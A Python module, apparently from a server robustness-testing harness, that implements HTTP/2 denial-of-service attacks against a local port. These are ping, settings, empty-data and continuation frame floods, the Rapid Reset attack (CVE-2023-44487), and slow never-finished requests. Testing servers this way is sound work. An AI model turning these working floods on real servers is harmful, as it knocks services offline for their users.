"""Hostile callers that speak HTTP/2 themselves: floods of frames, and requests that never end."""

from __future__ import annotations

import contextlib
import random
import select
import socket
import struct
import time
from collections.abc import Callable, Iterator

from campaigns.hostile_target import METHODS, Target, kind
from support.http2 import DATA, END_HEADERS, HEADERS, PING, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame

_CONTINUATION = 9

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
_PATH = METHODS + b"Generate"
# POST, http, the path, an authority and the content type, as HPACK without its dynamic table.
_REQUEST = b"\x83\x86\x04" + bytes([len(_PATH)]) + _PATH + b"\x01\x01x\x0f\x10\x10application/grpc"


def _flood(target: Target, frames: Callable[[], Iterator[bytes]]) -> int:
    """Send frames without a pause, over one connection after another."""
    count = 0
    while not (count and target.is_over):
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", target.data), 5) as connection:
            connection.settimeout(1.0)
            connection.sendall(_PREFACE)
            for data in frames():
                connection.sendall(data)
                count += 1
                if _receive_now(connection) == b"" or target.is_over:
                    break
        time.sleep(0.01)  # do not spin on refused connections
    return count


def _receive_now(connection: socket.socket) -> bytes | None:
    """Return the bytes received so far without waiting: empty at the end of the stream, None if there are none."""
    return connection.recv(65536) if select.select([connection], [], [], 0)[0] else None


def _endless(data: bytes, first: bytes = b"") -> Callable[[], Iterator[bytes]]:
    def frames() -> Iterator[bytes]:
        yield first
        while True:
            yield data

    return frames


@kind
def frames_of_pings(target: Target) -> int:
    return _flood(target, _endless(frame(PING, bytes(8)) * 100))


@kind
def frames_of_settings(target: Target) -> int:
    return _flood(target, _endless(frame(SETTINGS, struct.pack(">HI", 3, 50)) * 100))


@kind
def frames_of_empty_data(target: Target) -> int:
    return _flood(target, _endless(frame(DATA, stream=1) * 100, frame(HEADERS, _REQUEST, END_HEADERS, 1)))


@kind
def frames_of_continuations(target: Target) -> int:
    field = b"\x00\x03x-a\x7f\x80\x01" + b"a" * 255
    return _flood(target, _endless(frame(_CONTINUATION, field, stream=1), frame(HEADERS, _REQUEST, stream=1)))


@kind
def frames_of_resets(target: Target) -> int:
    """Reset requests right after their headers (CVE-2023-44487)."""

    def frames() -> Iterator[bytes]:
        stream = 1
        while True:
            data = b""
            for _ in range(20):
                data += frame(HEADERS, _REQUEST, END_HEADERS, stream)
                data += frame(RST_STREAM, bytes(3) + b"\x08", stream=stream)
                stream += 2
            yield data

    return _flood(target, frames)


@kind
def unfinished_requests(target: Target) -> int:
    """Start messages and never complete them, as many as the server accepts."""
    held: list[socket.socket] = []
    count = 0
    rng = random.Random(target.data)
    while not target.is_over:
        with contextlib.suppress(OSError):
            connection = socket.create_connection(("127.0.0.1", target.data), 5)
            connection.settimeout(0.5)
            held.append(connection)
            connection.sendall(_PREFACE)
            window = [65535]
            for stream in range(1, 257, 2):
                connection.sendall(frame(HEADERS, _REQUEST, END_HEADERS, stream))
                connection.sendall(frame(DATA, b"\0" + struct.pack(">I", 900_000), stream=stream))
                count += 1
            started_at = time.monotonic()
            while time.monotonic() - started_at < 2 and not target.is_over:
                _take_windows(connection, window)
                if window[0] < 16384:
                    time.sleep(0.01)
                    continue
                connection.sendall(frame(DATA, bytes(8192), stream=1 + 2 * rng.randrange(128)))
                window[0] -= 8192
        while len(held) > 16:
            held.pop(0).close()
    return count


def _take_windows(connection: socket.socket, window: list[int]) -> None:
    """Read window updates of the connection and add them to `window[0]`."""
    data = _receive_now(connection) or b""
    while len(data) >= 9:
        length, number, stream = int.from_bytes(data[:3], "big"), data[3], int.from_bytes(data[5:9], "big")
        if number == WINDOW_UPDATE and stream == 0 and len(data) >= 13:
            window[0] += int.from_bytes(data[9:13], "big")
        data = data[9 + length :]
